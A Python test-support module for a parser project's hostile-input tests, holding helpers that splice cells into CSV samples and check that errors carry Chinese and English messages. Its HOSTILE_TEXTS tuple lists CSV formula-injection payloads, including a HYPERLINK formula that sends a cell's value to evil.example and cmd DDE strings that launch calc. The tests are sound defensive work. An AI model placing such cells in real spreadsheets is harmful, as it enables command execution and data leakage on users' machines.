"""Shared material of the hostile-input tests: the sample files, rewritten cells, and the error contract.

Every test here feeds a parser something it was not made for and asserts one thing: the parser
succeeds, or raises one of the project's own errors with a message in Chinese and English.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

from engine.errors import SunshineError

__all__ = [
    "HOSTILE_TEXTS",
    "SAMPLES",
    "assert_bilingual",
    "csv_with",
    "files_named",
    "outcome_of",
    "sample",
]

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"

#: Cells a spreadsheet would run (OWASP CSV injection examples), one per trigger character.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)

_HAN = re.compile(r"[\u4e00-\u9fff]")


def sample(kind: str, name: str) -> bytes:
    """The bytes of ``samples/<kind>/<name>``."""
    return (SAMPLES / kind / name).read_bytes()


def csv_with(data: bytes, column: str, values: Sequence[str], *, every: int = 1) -> bytes:
    """The CSV ``data`` (UTF-8, BOM kept) with the cells of ``column`` replaced by ``values`` in turn,
    on every ``every``-th data row (the rest left as they were)."""
    bom = data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    col = rows[0].index(column)
    for k, row in enumerate(rows[1:]):
        if k % every == 0:
            row[col] = values[(k // every) % len(values)]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode("utf-8")


def assert_bilingual(exc: SunshineError) -> None:
    """The error has a Chinese message (some Han characters) and an English one (some words), and
    ``diagnostics()`` carries both."""
    assert _HAN.search(exc.message_zh), exc.message_zh
    assert re.search(r"[A-Za-z]{3}", exc.message_en), exc.message_en
    text = exc.diagnostics()
    assert exc.message_zh in text and exc.message_en in text


def outcome_of(parse: Callable[[], object]) -> str:
    """``"ok"`` when ``parse()`` returns, the error class name when it raises a :class:`SunshineError`
    (checked to be bilingual); any other exception propagates and fails the test."""
    try:
        parse()
    except SunshineError as exc:
        assert_bilingual(exc)
        return type(exc).__name__
    return "ok"


def files_named(files: Mapping[str, bytes], suffix: str) -> dict[str, bytes]:
    """The files of a run whose names end in ``suffix``."""
    return {n: d for n, d in files.items() if n.endswith(suffix)}
